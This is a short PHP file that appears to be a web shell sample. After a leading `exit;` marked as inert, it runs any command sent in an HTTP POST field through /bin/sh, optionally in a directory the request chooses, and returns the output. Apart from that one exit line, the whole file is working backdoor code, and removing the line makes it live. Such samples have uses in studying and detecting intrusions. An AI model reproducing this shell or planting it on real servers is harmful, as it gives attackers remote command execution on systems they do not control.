<?php exit; /* inert */ 
$d = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
$p = proc_open('/bin/sh', $d, $pipes, isset($_POST['cwd']) ? $_POST['cwd'] : null);
fwrite($pipes[0], $_POST['line'] . "\nexit\n"); fclose($pipes[0]);
echo stream_get_contents($pipes[1]), stream_get_contents($pipes[2]);
